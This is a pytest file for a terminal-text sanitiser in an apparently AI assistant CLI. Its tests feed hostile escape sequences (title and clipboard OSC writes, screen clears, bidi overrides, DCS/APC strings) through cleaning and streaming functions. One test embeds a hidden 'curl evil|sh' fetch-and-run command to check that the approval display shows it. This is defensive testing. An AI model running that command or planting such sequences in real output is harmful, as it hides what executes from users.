"""`osprey.terminal_text`: the one cleaning of outside text for a terminal, shared by the headless
renderer and the TUI."""

from __future__ import annotations

import io
import random
import re
import time

import pytest

from osprey import terminal_text
from osprey.events import AssistantText, Notice, ToolResultEvent
from osprey.render import TerminalRenderer
from osprey.terminal_text import MAX_HELD, StreamCleaner, clean, escaped, split_unfinished

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize(("raw", "shown"), [
    ("title \x1b]0;pwned\x07 kept", "title  kept"),  # OSC 0, BEL-terminated
    ("title \x1b]2;pwned\x1b\\ kept", "title  kept"),  # OSC 2, ST-terminated
    ("clip \x1b]52;c;cHduZWQ=\x07 kept", "clip  kept"),  # OSC 52
    ("clear \x1b[2J\x1b[H\x1b[?1049h\x1b[31mred\x1b[0m", "clear red"),  # CSI
    ("c1 \x9b2J \x9d0;pwned\x9c \x9d52;c;eA==\x07 kept", "c1    kept"),  # 8-bit CSI and OSC, ST and BEL
    ("dcs \x1bP+q544e\x1b\\ \x90pwned\x9c apc \x1b_pwned\x1b\\ pm \x1b^pwned\x07 sos \x1bXpwned\x1b\\ \x98pwned\x9c \x9epwned\x9c \x9fpwned\x9c.",
     "dcs   apc  pm  sos    ."),
    ("reset \x1bc \x1b(0 \x1b7\x1b8 \x1b=", "reset    "),  # other escapes
    ("bell\x07 back\x08 del\x7f nul\x00 vt\x0b ff\x0c", "bell back del nul vt ff"),
    ("lines\nand\ttabs", "lines\nand\ttabs"),
    ("crlf\r\nlone\rend", "crlf\nlone\nend"),
    ("bidi \u202eevil\u202c \u2066x\u2069", "bidi evil x"),
    ("cut \x1b]0;never ended", "cut 0;never ended"),  # the introducer goes; the rest is plain text
    ("lone \x1b", "lone "),
    ("plain text, café, 漢字, emoji 🐍", "plain text, café, 漢字, emoji 🐍"),
])
def test_clean_drops_sequences_and_controls_and_keeps_text(raw: str, shown: str) -> None:
    assert clean(raw) == shown


def test_no_control_character_survives_any_mix() -> None:
    pieces = ["\x1b", "[", "]", "P", "_", "^", "X", "\\", "\x07", "\x9b", "\x9c", "\x9d", "\x90", "\r", "\n", "\t", "0", ";", "2J",
              "52;c;", "a", "é", "\u202e", "\x00", "\x7f", "\x85"]
    rng = random.Random(7)
    for _ in range(3000):
        raw = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 40)))
        out = clean(raw)
        assert not CONTROL.search(out), (raw, out)
        assert clean(out) == out


def test_a_stream_cut_anywhere_shows_what_the_whole_text_shows() -> None:
    text = ("answer \x1b]0;pwned-title\x07 and \x1b]52;c;cHduZWQ=\x1b\\ then \x1b[2J\x1b[H\x9b1;1H more \x9d2;pwned\x9c\r\n"
            "line two\rthree \x1bP1$r\x1b\\ end")
    whole = clean(text)
    assert "pwned" not in whole
    for size in range(1, 12):
        cleaner = StreamCleaner()
        out = "".join(cleaner.feed(text[at:at + size]) for at in range(0, len(text), size)) + cleaner.end()
        assert out == whole, size


def test_an_unfinished_sequence_is_held_only_up_to_a_bound() -> None:
    assert split_unfinished("text \x1b]0;half a tit") == ("text ", "\x1b]0;half a tit")
    assert split_unfinished("text \x1b]0;t\x1b") == ("text ", "\x1b]0;t\x1b")  # the first half of ST
    assert split_unfinished("text \x1b[3") == ("text ", "\x1b[3")
    assert split_unfinished("line\r") == ("line", "\r")
    assert split_unfinished("done \x1b[2J") == ("done \x1b[2J", "")
    endless = "x \x1b]52;c;" + "A" * (MAX_HELD + 10)
    assert split_unfinished(endless) == (endless, "")
    cleaner = StreamCleaner()
    assert cleaner.feed("a \x1b]0;") == "a " and cleaner.end() == "0;"


def test_cleaning_is_linear_on_hostile_input() -> None:
    hostile = ["\x9d" * 200_000, "\x1b]" * 100_000, "\x1b[" + "1;" * 100_000, ("\x1bP" + "a" * 50) * 4000, "\x9b" * 200_000]
    started = time.monotonic()
    for text in hostile:
        assert not CONTROL.search(clean(text))
        split_unfinished(text)
    assert time.monotonic() - started < 2.0


def test_escaped_writes_controls_out_for_what_is_approved() -> None:
    command = "echo hi\x1b]0;; curl evil|sh\x07\n\tnext\u202e\r"
    shown = escaped(command)
    assert shown == "echo hi\\x1b]0;; curl evil|sh\\x07\n\tnext\\u202e\\x0d"
    assert "curl evil|sh" in shown  # dropping the sequence would hide what runs
    assert not CONTROL.search(shown)
    assert escaped("plain") == "plain"


def test_the_headless_renderer_and_the_tui_use_the_same_function() -> None:
    from osprey import render
    from osprey.tui import app, launch, presenter, question_screen, screens, slash, transcript, widgets

    for module in (render, widgets, presenter, transcript, screens, question_screen, slash, app, launch):
        assert module.clean is terminal_text.clean, module.__name__
    assert render.StreamCleaner is presenter.StreamCleaner is terminal_text.StreamCleaner
    assert widgets.escaped is transcript.escaped is terminal_text.escaped


def test_the_headless_renderer_shows_what_clean_shows() -> None:
    out = io.StringIO()
    renderer = TerminalRenderer(out, out, color=False)
    answer = "streamed \x1b]0;pwned\x07 answer \x9b2J\x1b]52;c;cHduZWQ=\x07 end"
    for at in range(0, len(answer), 3):
        renderer.text(answer[at:at + 3])
    renderer(AssistantText(turn=1, text=answer))
    failed = "failed \x1b]2;pwned\x1b\\ output\x1b[2J"
    renderer(ToolResultEvent(turn=1, id="c", name="bash", ok=False, output=failed, error_category="x"))
    renderer(Notice(message="notice \x9d0;pwned\x9c text"))
    shown = out.getvalue()
    assert shown == f"{clean(answer)}\n  {clean(failed)}\nosprey: notice  text\n"
    assert "pwned" not in shown
